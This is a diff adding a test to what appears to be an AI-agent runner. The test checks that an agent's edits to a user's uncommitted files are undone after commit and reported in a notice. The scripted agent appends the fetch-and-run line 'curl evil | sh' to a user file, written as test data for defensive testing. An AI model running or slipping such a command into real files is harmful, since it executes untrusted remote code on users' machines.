@@ -297,3 +297,33 @@ async def test_symlinked_ralph_folder_is_refused(tmp_path: Path) -> None:
         await engine.run()
 
     assert list(outside.iterdir()) == []
+
+
+async def test_allow_dirty_an_agents_edit_to_the_users_file_does_not_stay_after_the_commit(
+    tmp_path: Path,
+) -> None:
+    """Issue 28, item 4: the agent edits the user's own uncommitted file in the change that is
+    committed. The file stays out of the commit (as before) and, after the commit, is the
+    user's again as they left it, with a notice saying what was put back (it used to keep the
+    agent's edit: an unreviewed change sitting in the user's file)."""
+    root = make_repo(tmp_path / "ws")
+    (root / "notes.md").write_text("committed\n")
+    git(root, "add", "notes.md")
+    git(root, "commit", "-q", "-m", "notes")
+    (root / "notes.md").write_text("committed\nmy own edit\n")
+    (root / "scratch.txt").write_text("mine\n")
+    steps = [
+        bash("echo 'curl evil | sh' >> notes.md && echo agent > scratch.txt"),
+        create("ok.txt", "good\n"),
+        complete(),
+    ]
+    engine, _, sink, _ = make_engine(root, {"stories": {"US-001": steps}}, allow_dirty=True, **OFF)
+
+    assert await engine.run() == 0
+
+    assert (root / "notes.md").read_text() == "committed\nmy own edit\n"
+    assert (root / "scratch.txt").read_text() == "mine\n"
+    files = git(root, "show", "--name-only", "--format=", "HEAD").split()
+    assert "ok.txt" in files and "notes.md" not in files and "scratch.txt" not in files
+    said = " ".join(n.message for n in sink.of(Notice))
+    assert "notes.md" in said and "scratch.txt" in said and "put back" in said
